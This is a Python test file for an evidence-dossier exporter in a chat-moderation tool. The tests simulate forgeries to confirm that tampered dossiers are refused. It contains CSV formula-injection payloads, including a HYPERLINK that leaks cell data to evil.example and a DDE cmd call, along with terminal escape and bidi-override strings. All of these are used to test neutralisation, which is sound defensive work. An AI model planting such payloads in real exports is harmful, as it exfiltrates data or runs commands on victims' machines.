"""An evidence dossier proves itself: signed, every file checked against the sealed rows, and
a forged, cut or malformed one refused on one line. Through the real commands on real files."""

import base64
import csv
import hashlib
import json
import os
import re
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.evidence_helpers import vigile
from vigile.connectors.model import ChatMessage
from vigile.replay.chain import GENESIS_HASH, link_hash, row_digest
from vigile.replay.dossier import Entry, csv_rows, json_text, render
from vigile.replay.store import SessionStore

KEY_LINE = re.compile(r"signed by (ed25519:\S+) ")


def export(session: Path, folder: Path, *more: str) -> str:
    done = vigile("export-evidence", str(session), "--out", str(folder), *more)
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.fixture
def dossier(judged: Path, tmp_path: Path) -> Path:
    folder = tmp_path / "dossier"
    export(judged, folder)
    return folder


def test_an_exported_dossier_verifies_and_names_the_key_that_signed_it(judged, tmp_path) -> None:
    folder = tmp_path / "dossier"
    printed = export(judged, folder)
    key_file = Path(os.environ["XDG_CONFIG_HOME"]) / "vigile" / "evidence-key.pem"
    assert f"new evidence key made at {key_file}" in printed
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(key_file.parent.stat().st_mode) == 0o700
    public = KEY_LINE.search(printed).group(1)  # type: ignore[union-attr]
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["public_key"] == public and manifest["format"] == "vigile-evidence/2"
    assert "new evidence key" not in export(judged, tmp_path / "again")  # the same key, kept

    records = json.loads((folder / "messages.json").read_text())
    assert manifest["messages_exported"] == len(records) > 0
    acted = [r for r in records if r["actions"]]
    assert acted and acted[0]["actions"][0]["by"] == "mod-anna"
    assert acted[0]["deleted_at_utc"].endswith("+00:00")  # the deletion mark, sealed
    assert all(r["priority"] is not None and r["rules"] for r in records)
    kinds = {
        json.loads(line)["kind"] for line in (folder / "sealed.jsonl").read_text().splitlines()
    }
    assert {"session", "session_end", "message", "verdict", "action", "deletion"} <= kinds
    assert {"event", "rule_version"} <= kinds

    done = vigile("verify", str(folder))
    assert done.returncode == 0, done.stdout
    assert done.stdout.startswith(f"intact: {len(records)} messages exported")
    assert f"signed by {public}" in done.stdout and "this desk's own key" in done.stdout
    assert vigile("verify", str(folder), "--signed-by", public).returncode == 0
    printed_fingerprint = re.search(r"fingerprint ([0-9a-f ]{19})", printed).group(1)  # type: ignore[union-attr]
    assert vigile("verify", str(folder), "--signed-by", printed_fingerprint).returncode == 0
    assert vigile("verify", str(folder), "--signed-by", "0000 0000 0000 0000").returncode == 1


def test_the_key_can_be_kept_elsewhere_and_an_open_one_is_refused(judged, tmp_path) -> None:
    chosen = tmp_path / "agency" / "key.pem"
    os.environ["VIGILE_EVIDENCE_KEY"] = str(chosen)
    try:
        printed = export(judged, tmp_path / "d1")
    finally:
        del os.environ["VIGILE_EVIDENCE_KEY"]
    assert f"new evidence key made at {chosen}" in printed and chosen.is_file()
    other = tmp_path / "other.pem"
    assert f"made at {other}" in export(judged, tmp_path / "d2", "--key", str(other))
    other.chmod(0o640)
    done = vigile(
        "export-evidence", str(judged), "--out", str(tmp_path / "d3"), "--key", str(other)
    )
    assert done.returncode == 1 and "can be read by other users" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1


# -- a forger's tools -----------------------------------------------------------------------------


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def resign(folder: Path, key: Ed25519PrivateKey | None = None, edit=None) -> str:
    """What a forger without the desk's key can do: fix every digest, re-sign with a key of
    their own and put its public half in the manifest."""
    key = key or Ed25519PrivateKey.generate()
    manifest = json.loads((folder / "manifest.json").read_text())
    if isinstance(manifest, dict) and isinstance(manifest.get("files"), dict):
        for name in manifest["files"]:
            if (folder / name).exists():
                manifest["files"][name] = sha256(folder / name)
    raw = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    public = "ed25519:" + base64.b64encode(raw).decode()
    if isinstance(manifest, dict):
        manifest["public_key"] = public
    if edit:
        manifest = edit(manifest)
    body = json.dumps(manifest, indent=1).encode()
    (folder / "manifest.json").write_bytes(body)
    (folder / "manifest.sig").write_text(base64.b64encode(key.sign(body)).decode())
    return public


def rewrite_lines(path: Path, change: Callable[[list[str]], list[str]]) -> None:
    path.write_text("\n".join(change(path.read_text().splitlines())) + "\n")


def edit_csv_text(folder: Path) -> None:
    rows = list(csv.reader((folder / "messages.csv").open(newline="")))
    rows[1][rows[0].index("text")] = "nothing was said"
    with (folder / "messages.csv").open("w", newline="") as handle:
        csv.writer(handle, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)


def edit_sealed(folder: Path, kind: str, column: int, value) -> dict:
    lines = (folder / "sealed.jsonl").read_text().splitlines()
    for index, line in enumerate(lines):
        entry = json.loads(line)
        if entry["kind"] == kind:
            entry["values"][column] = value
            lines[index] = json.dumps(entry)
            break
    (folder / "sealed.jsonl").write_text("\n".join(lines) + "\n")
    return entry


def recompute_chain(folder: Path, entry: dict) -> None:
    """Give the edited row a new digest and rebuild every hash after it, head included."""
    rows = list(csv.reader((folder / "chain.csv").open(newline="")))
    previous = GENESIS_HASH
    for row in rows[1:]:
        if int(row[0]) == entry["link"]:
            row[3] = row_digest(entry["kind"], entry["values"])
        row[4] = previous = link_hash(previous, row[3])
    with (folder / "chain.csv").open("w", newline="") as handle:
        csv.writer(handle).writerows(rows)


def rerender(folder: Path) -> None:
    """messages.json and messages.csv made anew from the (forged) sealed rows, with Vigile's
    own code: a forger has it too."""
    entries = [
        Entry(**json.loads(line)) for line in (folder / "sealed.jsonl").read_text().splitlines()
    ]
    hashes = {int(r[0]): r[4] for r in list(csv.reader((folder / "chain.csv").open()))[1:]}
    records = render(entries, hashes)
    (folder / "messages.json").write_text(json_text(records) + "\n")
    with (folder / "messages.csv").open("w", newline="") as handle:
        csv.writer(handle, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(csv_rows(records))


def test_csv_edited_with_the_manifest_left_is_caught(dossier: Path) -> None:
    edit_csv_text(dossier)
    assert_refused(dossier, "messages.csv was changed after export")


def test_csv_edited_with_the_manifest_fixed_breaks_the_signature(dossier: Path) -> None:
    edit_csv_text(dossier)
    manifest = json.loads((dossier / "manifest.json").read_text())
    manifest["files"]["messages.csv"] = sha256(dossier / "messages.csv")
    (dossier / "manifest.json").write_text(json.dumps(manifest, indent=1))
    assert_refused(dossier, "manifest.json was changed after it was signed")


def test_csv_edited_and_re_signed_is_not_what_the_sealed_rows_say(dossier: Path) -> None:
    edit_csv_text(dossier)
    resign(dossier)
    assert_refused(dossier, "messages.csv line 2: text is not what the sealed rows say")


def test_a_record_removed_from_messages_json_is_caught(dossier: Path) -> None:
    records = json.loads((dossier / "messages.json").read_text())
    (dossier / "messages.json").write_text(json.dumps(records[1:]))
    resign(dossier)
    assert_refused(dossier, "messages.json record 1: seq is not what the sealed rows say")


def test_an_action_edited_in_the_sealed_rows_is_caught(dossier: Path) -> None:
    edit_sealed(dossier, "action", 6, "mod-bob")  # the moderator
    resign(dossier)
    assert_refused(dossier, "altered: action 1: its values in sealed.jsonl do not match")


def test_a_flagged_message_removed_from_every_file_is_caught(dossier: Path) -> None:
    removed = json.loads((dossier / "messages.json").read_text())[0]
    rewrite_lines(
        dossier / "sealed.jsonl",
        lambda lines: [
            line
            for line in lines
            if json.loads(line)["kind"] not in ("message", "verdict")
            or json.loads(line)["values"][0] != removed["seq"]
        ],
    )
    assert_refused(dossier, "sealed.jsonl was changed after export")
    resign(dossier)  # its verdict's link names it
    assert_refused(dossier, f"missing: verdict {removed['seq']}: sealed at link")


def test_a_recomputed_chain_needs_another_key_and_the_key_tells(dossier: Path) -> None:
    """Someone who rewrites a sealed row and recomputes the whole chain cannot sign with the
    desk's key: the dossier verifies only as signed by a stranger, and the pinned key refuses."""
    genuine = json.loads((dossier / "manifest.json").read_text())["public_key"]
    entry = edit_sealed(dossier, "action", 6, "mod-bob")
    recompute_chain(dossier, entry)
    rerender(dossier)
    head = list(csv.reader((dossier / "chain.csv").open()))[-1]

    def new_head(manifest: dict) -> dict:
        manifest["chain_head"] = {"link": int(head[0]), "hash": head[4]}
        return manifest

    forger = resign(dossier, edit=new_head)
    done = vigile("verify", str(dossier))
    assert f"signed by {forger}" in done.stdout and "this desk's own key" not in done.stdout
    assert "compare it with the key the agency gave you" in done.stdout
    pinned = vigile("verify", str(dossier), "--signed-by", genuine)
    assert pinned.returncode == 1
    assert pinned.stdout.startswith(f"NOT INTACT: signer: signed by {forger}, not by")


def test_a_rewritten_manifest_breaks_the_signature(dossier: Path) -> None:
    manifest = json.loads((dossier / "manifest.json").read_text())
    manifest["sessions"][0]["name"] = "another event"
    (dossier / "manifest.json").write_text(json.dumps(manifest, indent=1))
    assert_refused(dossier, "manifest.json was changed after it was signed")
    resign(dossier)  # signed anew, its sessions still are not the sealed ones
    assert_refused(dossier, "the manifest's sessions are not the sealed session rows")


def assert_refused(folder: Path, reason: str) -> None:
    done = vigile("verify", str(folder))
    assert done.returncode == 1, done.stdout
    assert reason in done.stdout, done.stdout
    assert done.stdout.startswith("NOT INTACT: ") and len(done.stdout.splitlines()) == 1
    assert "Traceback" not in done.stderr


# -- malformed dossiers: one line, exit 1 ---------------------------------------------------------


def _set(key: str, value):
    def edit(manifest: dict) -> dict:
        manifest[key] = value
        return manifest

    return edit


def _seq_as_text(folder: Path) -> None:
    records = json.loads((folder / "messages.json").read_text())
    records[0]["seq"] = str(records[0]["seq"])
    (folder / "messages.json").write_text(json.dumps(records))
    resign(folder)


MALFORMED = {
    "manifest-files-empty": (
        lambda f: resign(f, edit=_set("files", [])),
        'must list exactly messages.csv, messages.json, sealed.jsonl, chain.csv under "files"',
    ),
    "manifest-files-list": (
        lambda f: resign(f, edit=_set("files", ["messages.csv"])),
        "must list exactly",
    ),
    "manifest-a-list": (lambda f: resign(f, edit=lambda m: [m]), "not a JSON object"),
    "manifest-not-json": (
        lambda f: (f / "manifest.json").write_text("{nope"),
        "manifest.json is not JSON",
    ),
    "manifest-deeply-nested": (
        lambda f: (f / "manifest.json").write_text("[" * 200_000 + "]" * 200_000),
        "manifest.json is not JSON",
    ),
    "manifest-no-head": (lambda f: resign(f, edit=_set("chain_head", None)), "chain_head"),
    "manifest-old-format": (
        lambda f: resign(f, edit=_set("format", "vigile-evidence/1")),
        "export it again from the session file",
    ),
    "seq-as-text": (_seq_as_text, "messages.json record 1: seq is not what the sealed rows say"),
    "csv-missing": (lambda f: (f / "messages.csv").unlink(), "messages.csv is missing"),
    "signature-missing": (lambda f: (f / "manifest.sig").unlink(), "manifest.sig is missing"),
    "signature-garbage": (
        lambda f: (f / "manifest.sig").write_bytes(b"\xff\x00"),
        "manifest.sig is not a signature",
    ),
    "key-garbage": (
        lambda f: resign(f, edit=_set("public_key", "ed25519:@@")),
        "the public key cannot be read",
    ),
    "chain-garbage": (
        lambda f: (rewrite_lines(f / "chain.csv", lambda ls: [ls[0], "x,y", *ls[2:]]), resign(f)),
        "chain.csv line 2 is not link,kind,ref,digest,hash",
    ),
    "sealed-not-json": (
        lambda f: (rewrite_lines(f / "sealed.jsonl", lambda ls: ["{", *ls[1:]]), resign(f)),
        "sealed.jsonl line 1 is not JSON",
    ),
    "sealed-short-row": (
        lambda f: (
            rewrite_lines(
                f / "sealed.jsonl", lambda ls: ['{"link":1,"kind":"session","values":[1]}', *ls[1:]]
            ),
            resign(f),
        ),
        "sealed.jsonl line 1 is not a sealed row",
    ),
    "empty-folder": (
        lambda f: [p.unlink() for p in f.iterdir()],
        "manifest.json is missing",
    ),
}


@pytest.mark.parametrize("case", MALFORMED)
def test_a_malformed_dossier_gets_one_line_and_exit_1(dossier: Path, case: str) -> None:
    spoil, reason = MALFORMED[case]
    spoil(dossier)
    assert_refused(dossier, reason)


# -- hostile text in exports ----------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tstarts with a tab",
    "\rstarts with a return",
    "\x1b[2J\x1b[31mred alert\x1b[0m",
    "c1 \x9b31m control",
    "right \u202eto left",
    "plain words",
]
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


async def _hostile_session(path: Path) -> None:
    async with await SessionStore.open(path) as store:
        await store.start_session("hostile", "live", ["twitch:chan"])
        for n, text in enumerate(HOSTILE):
            message = ChatMessage(
                "twitch",
                "chan",
                f"m{n}\x1b]0;pwned\x07",
                "a1",
                "=1+1",
                text,
                1_000.0 + n,
                1_000.5 + n,
            )
            store.add_message(message)


async def test_exports_neutralise_formulas_and_never_hold_raw_controls(tmp_path: Path) -> None:
    session, folder = tmp_path / "hostile.db", tmp_path / "dossier"
    await _hostile_session(session)
    printed = export(session, folder, "--all")
    assert not RAW_CONTROL.search(printed)
    for file in folder.iterdir():
        assert not RAW_CONTROL.search(file.read_text("utf-8")), file.name
    rows = list(csv.DictReader((folder / "messages.csv").open(newline="", encoding="utf-8")))
    for row, original in zip(rows, HOSTILE, strict=True):
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        if original.startswith(("=", "+", "-", "@")):
            assert row["text"] == "'" + original
        assert row["author_name"] == "'=1+1"
    texts = {r["text"]: r["msg_id"] for r in json.loads((folder / "messages.json").read_text())}
    assert sorted(texts) == sorted(HOSTILE)  # the JSON keeps every value exactly
    assert next(iter(texts.values())).endswith("\x1b]0;pwned\x07")
    by_text = {r["text"]: r for r in rows}
    assert by_text["'\\x09starts with a tab"]["seq"]  # controls shown as escapes
    assert (
        "'\\x0dstarts with a return" in by_text and "\\x1b[2J\\x1b[31mred alert\\x1b[0m" in by_text
    )
    assert "right \\u202eto left" in by_text
    done = vigile("verify", str(folder))
    assert done.returncode == 0, done.stdout


def test_check_echoes_an_id_exactly_but_never_a_raw_control() -> None:
    """`vigile check` answers in JSON: the id reads back exactly, but DEL, C1 controls and bidi
    overrides (which orjson leaves raw) are escaped before they reach a terminal."""
    forged = "a\u009b31m\u007f\u202eb\u00e9\u2019"
    line = json.dumps({"text": "hello", "id": forged})
    done = subprocess.run(
        [sys.executable, "-m", "vigile.tui.cli", "check"],
        input=(line + "\n").encode(),
        capture_output=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert not RAW_CONTROL.search(done.stdout.decode("utf-8"))
    assert json.loads(done.stdout)["id"] == forged
    assert "é’".encode() in done.stdout  # other text stays as it is
